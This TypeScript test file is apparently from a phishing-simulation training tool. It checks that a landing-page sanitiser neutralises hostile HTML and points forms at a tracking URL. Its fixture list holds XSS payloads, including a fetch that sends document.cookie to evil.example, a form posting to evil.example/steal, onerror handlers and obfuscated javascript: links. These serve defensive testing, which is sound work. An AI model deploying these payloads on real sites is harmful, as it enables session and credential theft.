import { type ChildNode, type Element, isTag } from 'domhandler';
import { parseDocument } from 'htmlparser2';
import { describe, expect, it } from 'vitest';
import { BUILT_IN_LANDING_PAGES } from './catalog/index.ts';
import { countForms, prepareLandingPage, renderTeachableMoment } from './landing-page.ts';

/** Every element of a page, parsed the way a browser's tokenizer would see the tags. */
function elements(html: string): Element[] {
  const found: Element[] = [];
  const walk = (nodes: ChildNode[]) => {
    for (const node of nodes) {
      if (isTag(node)) {
        found.push(node);
        walk(node.children);
      }
    }
  };
  walk(parseDocument(html, { lowerCaseAttributeNames: true }).children);
  return found;
}

const CONTROLS = new Set(['input', 'select', 'textarea', 'button']);
const FORM_OVERRIDES = ['form', 'formaction', 'formmethod', 'formenctype', 'formtarget', 'dirname'];

/** What the preparation promises, checked on the parsed result rather than on strings. */
function expectNothingRunsOrLeaves(prepared: string, submitUrl?: string) {
  for (const el of elements(prepared)) {
    expect([
      'script',
      'iframe',
      'object',
      'embed',
      'svg',
      'math',
      'base',
      'link',
      'frame',
      'template',
    ]).not.toContain(el.name);
    for (const [attribute, value] of Object.entries(el.attribs)) {
      expect(attribute.startsWith('on'), `${el.name} ${attribute}`).toBe(false);
      if (['href', 'src', 'action', 'formaction', 'background', 'poster'].includes(attribute)) {
        expect(
          [...value]
            .filter((c) => c.charCodeAt(0) > 32)
            .join('')
            .toLowerCase(),
        ).not.toMatch(/^(javascript|vbscript|data:text)/);
      }
    }
    if (CONTROLS.has(el.name)) {
      expect(el.attribs, `${el.name} keeps a name`).not.toHaveProperty('name');
      for (const attribute of FORM_OVERRIDES) expect(el.attribs).not.toHaveProperty(attribute);
      if (el.name === 'input') expect(['image', 'file']).not.toContain(el.attribs.type);
    }
    if (el.name === 'form') {
      expect(Object.keys(el.attribs).filter((a) => ['enctype', 'target'].includes(a))).toEqual([]);
      if (submitUrl) {
        expect(el.attribs.action).toBe(submitUrl);
        expect(el.attribs.method).toBe('post');
      } else {
        expect(el.attribs).not.toHaveProperty('action');
        expect(el.attribs).not.toHaveProperty('method');
      }
    }
    if (el.name === 'meta') expect(el.attribs).not.toHaveProperty('http-equiv');
  }
}

const HOSTILE_PAGES: Array<[string, string]> = [
  ['a script tag', '<p>Hi</p><script>fetch("https://evil.example/?"+document.cookie)</script>'],
  [
    'a script tag in upper case with attributes',
    '<SCRIPT type="module" src="https://evil.example/x.js"></SCRIPT>',
  ],
  [
    'a script hidden in an svg',
    '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>',
  ],
  [
    'event handlers',
    '<body onload="x()"><img src="a.png" onerror="alert(1)"><div onclick="x()" ONMOUSEOVER="y()">t</div></body>',
  ],
  [
    'javascript: links',
    '<a href="javascript:alert(1)">a</a><a href=" JaVaScRiPt:alert(1)">b</a><a href="jav&#x09;ascript:alert(1)">c</a>',
  ],
  [
    'a vbscript or data: link',
    '<a href="vbscript:msgbox(1)">a</a><a href="data:text/html,<script>alert(1)</script>">b</a>',
  ],
  [
    'inputs with names',
    '<form><input name="username"><input type="password" name="password"><textarea name="notes"></textarea><select name="s"><option>1</option></select></form>',
  ],
  [
    'a form posting to another site',
    '<form action="https://evil.example/steal" method="POST" enctype="multipart/form-data" target="_blank"><input name="u"><button>Go</button></form>',
  ],
  [
    'buttons that override the form',
    '<form><input name="u"><button name="b" value="v" formaction="https://evil.example" formmethod="get" formenctype="text/plain" formtarget="_top">Go</button></form>',
  ],
  [
    'a control that joins another form',
    '<form id="f"></form><input form="f" name="u"><input dirname="u.dir" name="v">',
  ],
  ['an image button (sends click coordinates)', '<form><input type="image" src="go.png" name="go"></form>'],
  ['a file input', '<form><input type="file" name="f"></form>'],
  [
    'an iframe, object and embed',
    '<iframe src="https://evil.example"></iframe><object data="x.swf"></object><embed src="x.swf">',
  ],
  [
    'a base element and a meta refresh',
    '<head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example"></head>',
  ],
  ['a link to an external stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['a comment hiding markup', '<!--<script>alert(1)</script>--><p>t</p>'],
  ['a style that tries to close itself', '<style>p{}</style><script>alert(1)</script><style>b{}</style>'],
  ['a srcdoc iframe', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
];

describe('prepareLandingPage', () => {
  it.each(HOSTILE_PAGES)('neutralises %s', (_what, html) => {
    const prepared = prepareLandingPage(html);
    expectNothingRunsOrLeaves(prepared);
    expect(prepared).not.toMatch(/<script|alert\(|evil\.example\/x\.js|xlink:href/i);
    const served = prepareLandingPage(html, { submitUrl: 'https://track.example/s/tok' });
    expectNothingRunsOrLeaves(served, 'https://track.example/s/tok');
  });

  it('keeps the look of a page: document structure, styles, labels, placeholders and types', () => {
    const prepared = prepareLandingPage(`<!doctype html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"><title>Sign in</title>
<style>.card{padding:20px}</style></head>
<body><main class="card" style="color:#333"><h1>Sign in</h1>
<form autocomplete="off" action="/login" method="post"><label for="e">Email</label>
<input id="e" name="email" type="email" placeholder="you@example.com" required>
<input type="password" name="pw"><input type="checkbox" name="remember" checked> Remember me
<button type="submit" name="go">Sign in</button></form>
<a href="https://help.example/forgot" target="_blank">Forgot?</a><img src="https://cdn.example/logo.png" alt="Logo"></main></body></html>`);
    expect(prepared.startsWith('<!doctype html>\n<html lang="en"><head><meta charset="utf-8" />')).toBe(true);
    expect(prepared).toContain('<title>Sign in</title>');
    expect(prepared).toContain('<style>.card{padding:20px}</style>');
    expect(prepared).toContain('<main class="card" style="color:#333">');
    expect(prepared).toContain('<form autocomplete="off"><label for="e">Email</label>');
    expect(prepared).toContain('<input id="e" type="email" placeholder="you@example.com" required />');
    expect(prepared).toContain('<input type="password" />');
    expect(prepared).toContain('<input type="checkbox" checked />');
    expect(prepared).toContain('<button type="submit">Sign in</button>');
    expect(prepared).toContain('<a href="https://help.example/forgot" target="_blank">Forgot?</a>');
    expect(prepared).toContain('<img src="https://cdn.example/logo.png" alt="Logo" />');
  });

  it('points every form at the submit URL, and only there, when the tracking server serves it', () => {
    const served = prepareLandingPage(
      '<form action="https://evil.example" method="get"><input name="a"></form><form><input name="b"></form>',
      { submitUrl: 'https://track.example/s/tok' },
    );
    expect(served).toBe(
      '<form action="https://track.example/s/tok" method="post"><input type="text" /></form><form action="https://track.example/s/tok" method="post"><input type="text" /></form>',
    );
  });

  it('is stable: preparing a prepared page changes nothing', () => {
    for (const page of BUILT_IN_LANDING_PAGES) {
      const once = prepareLandingPage(page.html);
      expect(prepareLandingPage(once)).toBe(once);
    }
  });

  it('counts the forms of a page', () => {
    expect(countForms(prepareLandingPage('<p>No form</p>'))).toBe(0);
    expect(countForms(prepareLandingPage('<form><input></form><FORM id="x"></FORM>'))).toBe(2);
  });
});

describe('built-in landing pages', () => {
  it.each(BUILT_IN_LANDING_PAGES.map((p) => [p.key, p] as const))(
    '%s is a sign-in form with an email and a password field, unchanged in substance by preparation',
    (_key, page) => {
      const prepared = prepareLandingPage(page.html);
      expectNothingRunsOrLeaves(prepared);
      const inputs = elements(prepared).filter((e) => e.name === 'input');
      expect(inputs.map((i) => i.attribs.type)).toEqual(['email', 'password']);
      expect(countForms(prepared)).toBe(1);
      expect(prepared).toContain('Your organization');
    },
  );
});

describe('renderTeachableMoment', () => {
  it('says it was a simulation, lists the red flags escaped, and names the organization', () => {
    const page = renderTeachableMoment({
      organizationName: 'Acme <Corp>',
      redFlags: ['The sender is <b>odd</b>', 'It is urgent & threatening'],
    });
    expect(page).toContain('<h1>This was a phishing simulation</h1>');
    expect(page).toContain(
      '<li>The sender is &lt;b&gt;odd&lt;/b&gt;</li><li>It is urgent &amp; threatening</li>',
    );
    expect(page).toContain('Acme &lt;Corp&gt;');
    expect(page).toContain('What to do next time');
    expect(page).not.toContain('<script');
  });

  it('leaves the red-flag section out when the template has none', () => {
    const page = renderTeachableMoment({ organizationName: 'Acme', redFlags: [] });
    expect(page).not.toContain('What gave this email away');
    expect(page).toContain('What to do next time');
  });
});
